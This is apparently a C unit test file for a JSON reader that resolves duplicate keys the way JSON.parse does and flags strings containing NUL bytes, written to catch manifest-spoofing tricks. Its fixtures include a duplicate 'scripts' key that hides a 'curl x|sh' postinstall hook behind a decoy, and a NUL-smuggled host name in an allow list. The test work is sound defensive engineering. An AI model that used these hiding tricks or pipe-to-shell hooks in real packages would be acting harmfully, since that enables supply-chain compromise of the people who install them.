/* json_read: JSON read as JSON.parse reads it (last duplicate wins, in the first one's place),
 * with duplicates and NUL-holding strings recorded.
 * These cases failed before json_read existed: cJSON_Parse kept both "scripts" members and
 * cJSON_GetObjectItem returned the first (checked by running the same table through
 * cJSON_Parse, which gives "decoy" for the first case). */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "core/json_read.h"

struct read_case {
	const char *text;
	enum json_dialect dialect;
	const char *expect;   /* cJSON_PrintUnformatted of the tree, or NULL: an error */
	size_t dups, nuls;
};

static const struct read_case cases[] = {
	{"{\"scripts\":{\"x\":\"decoy\"},\"name\":\"a\",\"scripts\":{\"postinstall\":\"curl x|sh\"}}", JSON_STRICT,
	 "{\"scripts\":{\"postinstall\":\"curl x|sh\"},\"name\":\"a\"}", 1, 0},
	/* at any depth, and escaped keys are compared decoded */
	{"{\"a\":{\"b\":1,\"\\u0062\":2}}", JSON_STRICT, "{\"a\":{\"b\":2}}", 1, 0},
	/* a key holding a NUL is another key: it must not answer a lookup of "scripts" */
	{"{\"scripts\\u0000\":1,\"scripts\":2}", JSON_STRICT, "{\"scripts\\\\u0000\":1,\"scripts\":2}", 0, 1},
	{"{\"a\":\"x\\u0000y\"}", JSON_STRICT, "{\"a\":\"x\"}", 0, 1},
	/* a lone surrogate and a bad UTF-8 byte become U+FFFD; a pair is one character */
	{"[\"\\ud800\",\"\\ud83d\\ude00\",\"a\xff\"]", JSON_STRICT, "[\"\xef\xbf\xbd\",\"\xf0\x9f\x98\x80\",\"a\xef\xbf\xbd\"]",
	 0, 0},
	{"\xEF\xBB\xBF{\"a\":1}", JSON_STRICT, "{\"a\":1}", 0, 0},
	{"{\"a\":1,}", JSON_STRICT, NULL, 0, 0},
	{"{\"a\":[1,2,],} // c\n/* d */", JSON_JSONC, "{\"a\":[1,2]}", 0, 0},
	{"{\"a\":1 // c\n}", JSON_STRICT, NULL, 0, 0},
	{"{\"a\":01}", JSON_STRICT, NULL, 0, 0},
	{"{\"a\":-1.5e2}", JSON_STRICT, "{\"a\":-150}", 0, 0},
	{"{\"a\":1} x", JSON_STRICT, NULL, 0, 0},
	{"{\"a\":\"line\nbreak\"}", JSON_STRICT, NULL, 0, 0},
	{"{'a':1}", JSON_STRICT, NULL, 0, 0},
	{"", JSON_STRICT, NULL, 0, 0},
	{"[tru]", JSON_STRICT, NULL, 0, 0},
	{"{\"a\":1,\"a\":2,\"a\":3}", JSON_STRICT, "{\"a\":3}", 2, 0},
	/* a NUL inside a dropped duplicate is gone with it (fuzz_parse found the record kept,
	 * pointing at the freed value) */
	{"{\"a\":[1,\"x\\u0000\"],\"a\":{\"b\":2}}", JSON_STRICT, "{\"a\":{\"b\":2}}", 1, 0},
};

static void test_cases(void **state)
{
	(void)state;
	for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
		struct json_doc doc = {0};
		struct json_read_error e;
		int rc = json_read(cases[i].text, strlen(cases[i].text), cases[i].dialect, &doc, &e);
		char *out = rc == 0 ? cJSON_PrintUnformatted(doc.root) : NULL;
		if (cases[i].expect ? rc != 0 || strcmp(out, cases[i].expect) != 0 : rc == 0)
			fail_msg("case %zu: %s: got %s (%s)", i, cases[i].text, out ? out : "error", e.what);
		assert_int_equal(doc.dups.len, cases[i].dups);
		assert_int_equal(doc.nuls.len, cases[i].nuls);
		free(out);
		json_doc_free(&doc);
	}
}

static void test_duplicate_lines_and_paths(void **state)
{
	const char *text = "{\n \"scripts\": {\"a\": 1},\n \"dependencies\": {\n  \"x\": \"1\",\n  \"x\": \"2\"\n },\n"
			   " \"scripts\": {}\n}";
	struct json_doc doc = {0};
	struct json_read_error e;

	(void)state;
	assert_int_equal(json_read(text, strlen(text), JSON_STRICT, &doc, &e), 0);
	assert_int_equal(doc.dups.len, 2);
	assert_string_equal(doc.dups.items[0].path, "dependencies.x");
	assert_string_equal(doc.dups.items[0].top, "dependencies");
	assert_int_equal(doc.dups.items[0].line, 5);
	assert_int_equal(doc.dups.items[0].first_line, 4);
	assert_string_equal(doc.dups.items[1].path, "scripts");
	assert_int_equal(doc.dups.items[1].line, 7);
	assert_int_equal(doc.dups.items[1].first_line, 2);
	/* the last "scripts" is the one kept, in the first one's place */
	assert_string_equal(doc.root->child->string, "scripts");
	assert_null(doc.root->child->child);
	json_doc_free(&doc);
}

static void test_nul_length_and_error_position(void **state)
{
	const char *text = "{\"allow\": [\"a.example.com\\u0000.evil.example.net\"]}";
	const char *bad = "{\n  \"a\": 1\n  \"b\": 2\n}";
	struct json_doc doc = {0};
	struct json_read_error e;
	const cJSON *s;

	(void)state;
	assert_int_equal(json_read(text, strlen(text), JSON_STRICT, &doc, &e), 0);
	s = cJSON_GetArrayItem(cJSON_GetObjectItem(doc.root, "allow"), 0);
	assert_string_equal(s->valuestring, "a.example.com");
	assert_int_equal(json_string_length(&doc, s), strlen("a.example.com") + 1 + strlen(".evil.example.net"));
	assert_memory_equal(s->valuestring + 14, ".evil.example.net", 17);
	assert_string_equal(doc.nuls.items[0].path, "allow.0");
	json_doc_free(&doc);

	assert_int_equal(json_read(bad, strlen(bad), JSON_STRICT, &doc, &e), -1);
	assert_int_equal(e.line, 3);
	assert_int_equal(e.column, 3);
	assert_null(doc.root);
}

static void test_depth_cap(void **state)
{
	size_t n = JSON_READ_MAX_DEPTH + 10;
	char *text = malloc(2 * n + 1);
	struct json_doc doc = {0};
	struct json_read_error e;

	(void)state;
	memset(text, '[', n);
	memset(text + n, ']', n);
	text[2 * n] = '\0';
	assert_int_equal(json_read(text, 2 * n, JSON_STRICT, &doc, &e), -1);
	assert_non_null(strstr(e.what, "nested"));
	free(text);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_cases),
		cmocka_unit_test(test_duplicate_lines_and_paths),
		cmocka_unit_test(test_nul_length_and_error_position),
		cmocka_unit_test(test_depth_cap),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
